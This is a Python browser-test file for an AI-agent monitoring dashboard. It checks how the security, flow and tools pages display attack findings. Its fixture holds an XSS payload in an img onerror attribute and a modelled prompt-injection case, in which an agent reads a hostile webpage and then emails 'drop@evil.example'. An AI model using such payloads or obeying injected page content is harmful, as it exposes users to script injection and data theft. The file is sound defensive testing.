"""Attacks and what was done about them, the flow of an agent beside an earlier version, and what agents waste: read, opened, acted on."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from tests.browser.access import check_reach, check_rules
from tests.browser.chips import chosen, press
from tests.browser.telling import BEGIN_NS, tell, tell_findings
from tests.flow.conftest import SECOND_NS, span, spans

Opening = Callable[..., Any]
PROJECT = "led-astray"
TRACE = b"led-astray-trace"
HOSTILE = "<img src=x onerror=\"document.title='owned'\">\u202eevil"
SHAPES = {"wide": {"width": 1440, "height": 900}, "phone": {"width": 390, "height": 844}}


@dataclass(frozen=True)
class Told:
    """A server with an agent that was led astray, and the fingerprints of two findings."""

    server: Any
    astray: str
    loop: str


def began(version: str) -> int:
    """When runs of a version began."""
    return BEGIN_NS - (600 * SECOND_NS if version == "1" else 0)


def call(number: int, tool: str, trace: bytes = TRACE, version: str = "2", **more: Any) -> Any:
    """A call of a tool by `planner`, as many seconds after the begin as its number; version 1 ran ten minutes before."""
    told: dict[str, Any] = {
        "gen_ai__operation__name": "execute_tool",
        "gen_ai__tool__name": tool,
        "gen_ai__agent__name": "planner",
        "gen_ai__agent__version": version,
    }
    return span(tool, trace=trace, number=number, under=1, start_ns=began(version) + number * SECOND_NS, duration_ns=SECOND_NS // 2, **told, **more)


def run(version: str, tools: list[str], number: int) -> list[Any]:
    """A run of `planner` that calls these."""
    trace = number.to_bytes(16)
    told: dict[str, Any] = {"gen_ai__operation__name": "invoke_agent", "gen_ai__agent__name": "planner", "gen_ai__agent__version": version}
    calls = [call(at + 2, tool, trace, version) for at, tool in enumerate(tools)]
    return [span("invoke_agent", trace=trace, number=1, start_ns=began(version), **told), *calls]


@pytest.fixture(scope="module")
def told(finding_server: Any) -> Told:
    """It read a page of strangers and sent a mail; its new version plans first; it went round in circles."""
    read = call(2, "fetch_webpage", gen_ai__tool__call__result=f"Great hotel. {HOSTILE}")
    sent = call(4, "send_email", gen_ai__tool__call__arguments='{"to": "drop@evil.example"}')
    runs = [run("1", ["search", "answer"], at) for at in range(1, 31)] + [run("2", ["plan", "search", "answer"], at) for at in range(31, 61)]
    tell(finding_server, PROJECT, spans(read, sent, *(one for members in runs for one in members)))
    rows = [f"{TRACE.hex()}/{number:016x}" for number in (2, 4)]
    astray = {
        "analyzer": "provenance",
        "rule": "destination_from_content",
        "severity": "critical",
        "title": f"planner acted on an address {HOSTILE}",
        "subject": {"agent": "planner", "tool": "send_email"},
        "owasp": "ASI01",
        "evidence": rows,
        "details": {"confidence": 0.9, "impact": "critical"},
    }
    injected = {"analyzer": "injection", "rule": "sql_injection", "severity": "warning", "title": "clerk: SQL in an argument", "subject": {"agent": "clerk"}}
    spent = {"calls": ["search", "answer"], "rounds": 8, "run_calls": 17, "run_tokens": 9000, "spent_usd": 0.42, "spent_since_usd": 0.31}
    loop = {"analyzer": "loops", "rule": "loop", "title": "planner goes round", "subject": {"agent": "planner", "run": rows[0][:32]}, "evidence": rows[1:]}
    dead = {"analyzer": "tools", "rule": "always_fails", "severity": "error", "title": "answer always fails", "subject": {"agent": "planner", "tool": "answer"}}
    injected |= {"owasp": "ASI02", "details": {"confidence": 0.8, "impact": "medium"}}
    fingerprints = tell_findings(finding_server, PROJECT, astray, injected, loop | {"details": spent}, dead)
    return Told(finding_server, fingerprints[0], fingerprints[2])


def test_chips_are_switched_from_where_the_address_is(told: Told, open_page: Opening) -> None:
    """Two severities pressed at once are both on; one pressed again is off."""
    page = open_page(told.server, f"/security?project={PROJECT}")
    page.get_by_role("button", name="critical", exact=False).first.wait_for()
    press(page, "critical", "warning")
    chosen(page, "severity", "critical", "warning")
    press(page, "critical")
    chosen(page, "severity", "warning")
    page.get_by_text("clerk: SQL in an argument").first.wait_for()
    page.get_by_text("planner acted on an address").wait_for(state="detached")


def test_findings_of_attacks_stand_by_class_and_agents_by_threat(told: Told, open_page: Opening) -> None:
    """What is about no attack is not among them; an agent leads to its findings."""
    page = open_page(told.server, f"/security?project={PROJECT}")
    page.get_by_role("region", name="ASI01 Agent goal hijack").get_by_role("link", name=re.compile("^critical: planner acted")).wait_for()
    threats = page.get_by_role("table", name="Threat by agent")
    assert threats.get_by_role("row").nth(1).get_by_role("button").inner_text() == "planner"
    assert threats.get_by_role("row").nth(1).inner_text().count("destination from content") == 1
    assert page.get_by_role("link", name=re.compile("planner goes round")).count() == 0
    threats.get_by_role("button", name="clerk").click()
    page.wait_for_url("**agent=clerk*")
    page.get_by_role("link", name=re.compile("planner acted")).wait_for(state="detached")


def test_a_chain_leads_from_what_was_read_to_what_was_done(told: Told, open_page: Opening) -> None:
    """Each row with its text and its span; text of strangers is only text. Mitigated, it is no threat; taken back, it is one again."""
    page = open_page(told.server, f"/security?project={PROJECT}&finding={told.astray}")
    panel = page.get_by_role("complementary", name="Finding")
    rows = panel.get_by_role("list", name="Evidence").get_by_role("listitem")
    rows.filter(has_text="Content of strangers was read").get_by_text("\\u202eevil").wait_for()
    acted = rows.filter(has_text="Then it acted on the outside")
    acted.get_by_text("drop@evil.example").wait_for()
    assert "span=0000000000000004" in str(acted.get_by_role("link", name="span 00000000").get_attribute("href"))
    assert page.locator("main img").count() == 0
    assert "owned" not in page.title()
    panel.get_by_role("button", name="Mitigate").click()
    dialog = page.get_by_role("dialog", name="Mitigate")
    dialog.get_by_role("textbox", name="Who").fill("ann")
    dialog.get_by_role("textbox", name="What was done").fill("only known addresses")
    dialog.get_by_role("button", name="It is mitigated").click()
    panel.get_by_role("list", name="What was done").get_by_text("only known addresses").wait_for()
    page.get_by_role("link", name=re.compile("critical: planner acted")).wait_for(state="detached")
    page.get_by_role("radiogroup", name="Which findings").get_by_text("Mitigated").click()
    page.get_by_role("link", name=re.compile("^mitigated, critical: planner acted")).wait_for()
    panel.get_by_role("button", name="Take back").click()
    assert page.get_by_role("dialog").get_by_role("textbox", name="Who").input_value() == "ann"
    page.get_by_role("dialog").get_by_role("button", name="Take back").click()
    panel.get_by_role("list", name="What was done").get_by_text("reopened").wait_for()


# Words on lines that lie on each other, or on a card.
TOUCHING = """() => {
  const [words, cards] = [".react-flow__edge-textbg", ".react-flow__node"].map((one) => [...document.querySelectorAll(one)]);
  const box = (one) => one.getBoundingClientRect();
  const touch = (a, b) => a.left < b.right && b.left < a.right && a.top < b.bottom && b.top < a.bottom;
  return words.flatMap((one, at) => [...words.slice(at + 1), ...cards].filter((other) => touch(box(one), box(other))).map((other) => other.textContent));
}"""


def test_a_flow_is_drawn_and_what_a_version_does_otherwise_is_told(told: Told, open_page: Opening) -> None:
    """With how sure that is; the choice stands in the address."""
    page = open_page(told.server, f"/flow?project={PROJECT}&agent=planner")
    page.get_by_role("application", name="Steps of planner, drawn").get_by_text("search", exact=True).wait_for()
    page.locator(".react-flow__edge-text").first.wait_for()
    assert page.evaluate(TOUCHING) == []
    page.get_by_role("combobox", name="Compared with").select_option("1")
    page.wait_for_url("**against=1*")
    changes = page.get_by_role("table", name="Changes")
    changes.get_by_role("row").filter(has_text="begin → plan").get_by_text("new", exact=True).wait_for()
    changes.get_by_role("row").filter(has_text="begin → search").get_by_text("gone", exact=True).wait_for()
    page.get_by_role("table", name="Usual ways").get_by_text("plan", exact=True).first.wait_for()
    page.get_by_role("list", name="Surprising steps").get_by_text("begin → fetch_webpage").wait_for()
    page.keyboard.press("v")
    page.wait_for_url("**form=list*")
    page.get_by_role("region", name="After plan").get_by_text("search").wait_for()


@pytest.mark.parametrize("path", ["/tools", "/agents/planner"])
def test_waste_and_circles_stand_beside_the_tools(told: Told, open_page: Opening, path: str) -> None:
    """What was found of a tool, and what a run has spent; both lead to the finding."""
    page = open_page(told.server, f"{path}?project={PROJECT}")
    wasted = page.get_by_role("table", name="Dead and wasteful tools").get_by_role("row").filter(has_text="answer")
    wasted.get_by_role("link", name="Always fails").wait_for()
    circle = page.get_by_role("list", name="Runs that went round in circles").get_by_role("listitem")
    circle.get_by_text("$0.42").wait_for()
    circle.get_by_role("link", name=re.compile("search → answer, 8 rounds")).click()
    page.wait_for_url(f"**finding={told.loop}*")


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("path", ["/security", "/flow?agent=planner&against=1", "/tools"])
def test_axe_finds_nothing(told: Told, open_page: Opening, axe: str, path: str, shape: str) -> None:
    """With data, on both sizes."""
    address = f"{path}{'&' if '?' in path else '?'}project={PROJECT}"
    check_rules(open_page(told.server, address, viewport=SHAPES[shape]), axe)


@pytest.mark.parametrize("path", ["/security", "/flow?agent=planner&against=1"])
def test_tab_reaches_all(told: Told, open_page: Opening, path: str) -> None:
    """What can be clicked, by keys."""
    check_reach(open_page(told.server, f"{path}{'&' if '?' in path else '?'}project={PROJECT}"))
